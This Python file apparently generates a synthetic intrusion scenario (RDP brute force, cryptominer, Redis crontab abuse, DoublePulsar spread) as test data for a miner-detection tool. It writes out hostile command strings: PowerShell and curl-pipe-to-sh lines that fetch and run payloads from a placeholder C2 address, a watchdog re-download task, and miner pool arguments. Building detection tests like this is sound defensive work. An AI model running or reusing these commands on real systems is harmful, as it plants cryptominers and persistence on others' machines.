"""Seed case 8: coal-mining group; RDP brute force with ``123.com``, then 445 and 6379 on the subnet.

An internet address guesses ``Administrator``'s RDP password on ``MINE-SRV01`` (the weak
``123.com``); the intruder installs a miner named like svchost under ``C:\\ProgramData`` with a
task that starts it and a watchdog task that fetches it again when it is gone: the
responders' deletion at 10:00 is undone a minute later. The worm then sweeps the subnet for
445 and 6379: unauthenticated Redis on ``redis-01`` writes root's crontab (``CONFIG SET dir``),
DoublePulsar gets into the unpatched ``MINE-SRV02``; ``MINE-SRV03`` is patched (clean), the
engineers' workstation ``ENG-WS01`` only does its usual RDP (clean), ``SCADA-HIST`` came as
hives only (unknown). The capture at the server switch holds the RDP storm, the sweep, the
Redis commands, the SMB exploit and the stratum sessions.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from deminer.scenarios.captures import Capture
from deminer.scenarios.seed.common import Persist, Truth, epoch, utc
from deminer.scenarios.seed.hosts_linux import LinuxBox, miner
from deminer.scenarios.seed.hosts_windows import WinBox

ATTACKER, C2 = "203.0.113.60", "203.0.113.50"
POOL, POOL_IP, PORT = "pool.supportxmr.com", "198.51.100.23", 5555
WALLET = "4" + "7cPkW2m" * 13 + "HtRz8Qe"
START = utc("2024-05-19 06:00:00")
MINER = r"C:\ProgramData\WinSvc\svchosts.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
REDIS_CRON = "\n\n*/1 * * * * curl -fsSL http://203.0.113.50/init.sh | sh\n\n"


def _win_miner(box: WinBox, at: dt.datetime, parent: str, truth: Truth) -> None:
    """The miner, its start task and the watchdog task that fetches it again."""
    args = f"-o {POOL}:{PORT} -u {WALLET} -k --donate-level 1 --cpu-max-threads-hint 90"
    box.process(at, POWERSHELL, f"powershell -nop -w hidden -c \"(New-Object Net.WebClient).DownloadFile("
                f"'http://{C2}/svchosts.exe','{MINER}')\"", parent)
    box.process(at + dt.timedelta(seconds=20), MINER, f"{MINER} {args}", r"C:\Windows\System32\svchost.exe")
    box.task(at + dt.timedelta(seconds=25), "WinSvcHost", MINER, args)
    box.task(at + dt.timedelta(seconds=26), "WinSvcHostCheck", POWERSHELL,
             "-nop -w hidden -c \"if(!(Get-Process svchosts -EA 0)){(New-Object Net.WebClient)."
             f"DownloadFile('http://{C2}/svchosts.exe','{MINER}');Start-Process '{MINER}' '{args}'}}\"")
    box.file(MINER, 2_867_712, at + dt.timedelta(seconds=15), content_seed="xmrig-6.21-win64")
    truth.infect(box.name.lower(), at, Persist("task", "\\WinSvcHost"), Persist("task", "\\WinSvcHostCheck"))


def _redis_dump(cron: str) -> bytes:
    """What ``SAVE`` writes into /var/spool/cron/root after ``CONFIG SET``: an RDB file."""
    value = cron.encode()
    return (b"REDIS0009\xfa\tredis-ver\x055.0.7\xfa\nredis-bits\xc0@\xfe\x00\xfb\x01\x00\x00\x07backup1"
            + bytes([len(value)]) + value + b"\xff" + bytes(8))


def build(out: Path, work: Path) -> Truth:
    truth = Truth(8, "RDP brute force with 123.com, worm on 445 and 6379, watchdog", "brute_force")
    srv1 = WinBox("MINE-SRV01", "10.8.0.10", START)
    srv2 = WinBox("MINE-SRV02", "10.8.0.11", START)
    srv3 = WinBox("MINE-SRV03", "10.8.0.12", START, patched=True)
    eng = WinBox("ENG-WS01", "10.8.0.50", START, product="Windows 10 Pro", version="10.0", build="19045",
                 patched=True)
    scada = WinBox("SCADA-HIST", "10.8.0.40", START)
    redis = LinuxBox(work, "redis-01", "10.8.0.30", utc("2024-05-01 02:00:00"), START,
                     os_name="CentOS Linux 7 (Core)", seed=8)
    for name, ip, verdict in (("mine-srv01", srv1.ip, "infected"), ("mine-srv02", srv2.ip, "infected"),
                              ("redis-01", redis.ip, "infected"), ("mine-srv03", srv3.ip, "clean"),
                              ("eng-ws01", eng.ip, "clean"), ("scada-hist", scada.ip, "unknown")):
        truth.host(name, ip, verdict)
    truth.patient_zero = {"mine-srv01"}
    cap = Capture(start=epoch(START))

    # Noise: the engineers' own RDP sessions from ENG-WS01.
    for box in (srv1, srv2, srv3):
        box.logon(utc("2024-05-19 08:10:00"), "engineer", eng.ip, logon_type=10, workstation="ENG-WS01")
    cap.now = epoch(utc("2024-05-19 08:10:00"))
    cap.rdp(eng.ip, srv1.ip, cookie="engineer")

    # 1. The RDP storm (no NLA: type 10 failures), then 123.com works for Administrator.
    t0 = utc("2024-05-19 21:40:00")
    users = ["administrator", "admin", "administrator", "user", "administrator"]
    for i in range(160):
        srv1.logon(t0 + dt.timedelta(seconds=6 * i), users[i % len(users)], ATTACKER, logon_type=10, ok=False,
                   workstation="WIN-8QK2M1L")
    t_srv1 = t0 + dt.timedelta(seconds=6 * 160 + 30)
    srv1.logon(t_srv1, "Administrator", ATTACKER, logon_type=10, workstation="WIN-8QK2M1L")
    cap.now = epoch(t0)
    for _ in range(20):
        cap.rdp(ATTACKER, srv1.ip)
    _win_miner(srv1, t_srv1 + dt.timedelta(minutes=3), r"C:\Windows\explorer.exe", truth)
    truth.infected_at["mine-srv01"] = t_srv1

    # 2. The sweep for 445 and 6379; Redis writes root's crontab; DoublePulsar on MINE-SRV02.
    t_scan = utc("2024-05-19 22:30:00")
    cap.now = epoch(t_scan)
    for last in range(1, 41):
        target = f"10.8.0.{last}"
        if target == srv1.ip:
            continue
        opened = [p for p, ip in ((445, srv2.ip), (445, srv3.ip), (6379, redis.ip)) if ip == target]
        cap.syn_scan(srv1.ip, target, (445, 6379), open_ports=opened)
    t_redis = utc("2024-05-19 22:34:00")
    cap.now = epoch(t_redis)
    cap.redis_config_set(srv1.ip, redis.ip)
    redis.listen(1100, b"redis-server", [b"/usr/bin/redis-server *:6379"], "/usr/bin/redis-server", 6379)
    redis.file("/var/spool/cron/root", _redis_dump(REDIS_CRON), t_redis, 0o644)
    redis.file("/var/tmp/.redis/init.sh",
               f"#!/bin/sh\ncurl -fsSL http://{C2}/xmr -o /var/tmp/.redis/kthreaddi\n",
               t_redis + dt.timedelta(minutes=1), 0o755)
    miner(redis, 1300, "/var/tmp/.redis/kthreaddi", t_redis + dt.timedelta(minutes=1), POOL, POOL_IP, PORT,
          comm=b"kthreaddi")
    truth.edge("mine-srv01", "redis-01", "redis_rce", t_redis)
    truth.infect("redis-01", t_redis, Persist("cron", "*/1 * * * *"))
    t_srv2 = utc("2024-05-19 22:36:00")
    cap.now = epoch(t_srv2) - 3
    cap.smb_doublepulsar(srv1.ip, srv2.ip)
    cap.smb_doublepulsar(srv1.ip, srv3.ip, infected=False)
    _win_miner(srv2, t_srv2, r"C:\Windows\System32\spoolsv.exe", truth)
    truth.edge("mine-srv01", "mine-srv02", "eternalblue", t_srv2)

    # 3. The responders kill and delete the miner at 10:00; the watchdog brings it back.
    t_del = utc("2024-05-20 10:00:00")
    srv1.logon(t_del - dt.timedelta(minutes=3), "engineer", eng.ip, logon_type=10, workstation="ENG-WS01")
    srv1.process(t_del, r"C:\Windows\System32\taskkill.exe", "taskkill /f /im svchosts.exe",
                 r"C:\Windows\System32\cmd.exe", user="engineer")
    srv1.files = [f for f in srv1.files if f[0] != MINER]
    srv1.file(MINER, 2_867_712, t_del + dt.timedelta(minutes=1), content_seed="xmrig-6.21-win64")
    srv1.process(t_del + dt.timedelta(minutes=1), MINER, f"{MINER} -o {POOL}:{PORT} -u {WALLET} -k",
                 POWERSHELL)

    cap.now = epoch(utc("2024-05-20 11:00:00"))
    for ip in (srv1.ip, srv2.ip, redis.ip):
        cap.dns(ip, "10.8.0.2", POOL, answers=[bytes(int(x) for x in POOL_IP.split("."))])
        cap.stratum(ip, POOL_IP, port=PORT)

    for name, addresses in sorted(truth.ips.items()):     # the historian resolving what it polls
        cap.dns(scada.ip, "10.8.0.2", f"{name}.corp.example",
                answers=[bytes(int(x) for x in addresses[0].split("."))])
    for box in (srv1, srv2, srv3, eng):
        box.write(out)
    scada.write(out, logs=False)
    redis.collect(out)
    (out / "sensor").mkdir(parents=True, exist_ok=True)
    cap.write(out / "sensor" / "server-switch.pcapng", fmt="pcapng")

    truth.want("mine-srv01", "credential_access.win_rdp_brute_force",
               "initial_access.win_brute_force_success", "impact.win_miner_execution",
               "defense_evasion.win_svchost_outside_system32")
    truth.want("mine-srv02", "impact.win_miner_execution")
    truth.want("redis-01", "impact.miner_process")
    truth.want("redis-01", "initial_access.net_redis_abuse", needs="network")
    truth.want("mine-srv02", "lateral_movement.net_eternalblue_traits", needs="network")
    truth.want("mine-srv01", "credential_access.net_rdp_brute_force", "impact.net_stratum_session",
               needs="network")
    truth.clean_may = {"lateral_movement.net_eternalblue_traits"}
    truth.notes.append("The watchdog task (WinSvcHostCheck) re-downloaded the miner a minute after the "
                       "responders deleted it: the file's time is after the deletion.")
    return truth
